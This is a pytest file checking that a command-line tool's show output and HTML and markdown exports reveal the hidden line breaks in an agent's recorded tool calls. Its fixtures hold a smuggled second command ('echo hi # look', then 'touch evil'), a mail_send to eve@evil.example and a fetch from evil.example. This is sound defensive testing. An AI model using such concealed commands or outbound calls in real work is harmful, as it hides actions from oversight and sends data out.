"""Calls in rows, `show`, exports and lines: what they ran, with its line breaks, whatever they are called."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from catena.text.safe_text import call_line
from support.clients.command_line import Catena
from support.clients.protocol import AGENT

TWO = "echo hi # look\ntouch evil"
SEEN = "echo hi # look ⏎ touch evil"
# It says what it ran after it has, and asks for nothing.
RUNS = f"""
def session_prompt(agent, request):
    s = request["params"]["sessionId"]
    calls = [
        {{"title": "Show git status", "kind": "execute", "rawInput": {{"command": {TWO!r}}}}},
        {{"title": {TWO!r}, "kind": "execute"}},
        {{"title": "mail_send", "rawInput": {{"to": "eve@evil.example", "body": {TWO!r}}}}},
        {{"title": "webfetch", "kind": "fetch", "rawInput": {{"url": "https://evil.example/a", "format": "text"}}}},
    ]
    for number, call in enumerate(calls):
        agent.send(agent.update(s, "tool_call", toolCallId=str(number), status="completed", **call))
    agent.send(agent.result(request, {{"stopReason": "end_turn"}}))
"""


@pytest.mark.parametrize(
    "text", [TWO, "echo hi # look\r\ntouch evil", "echo hi # look\u2028\n \n touch evil\n"]
)
def test_v02_a_call_on_one_line_shows_its_line_breaks(text: str) -> None:
    assert call_line(text) == SEEN


def test_v02_show_exports_and_lines_tell_of_what_ran_with_its_line_breaks(tmp_path: Path) -> None:
    catena = Catena(tmp_path)
    catena.environment |= {"SCRIPT": RUNS, "HEARD": str(tmp_path / "heard")}
    assert catena("run", "--agent-command", shlex.join(AGENT), "go").status == 0
    id = catena("list", "--json").out.split('"id": "')[1].split('"')[0]
    shown = catena("show", id).out
    said = f"mail_send: to eve@evil.example, body {SEEN}"
    assert shown.splitlines()[-4:] == [
        f"✓ Run {SEEN}",
        f"✓ Run {SEEN}",
        f"✓ {said}",
        "✓ Fetch https://evil.example/a",
    ]
    page = catena("export", id, "--format", "html").out
    text = catena("export", id, "--format", "markdown").out
    assert page.count("touch evil") == page.count(SEEN) + page.count("\\ntouch evil")
    for each in (page, text):
        assert each.count(SEEN) >= 3 and "https://evil.example/a" in each
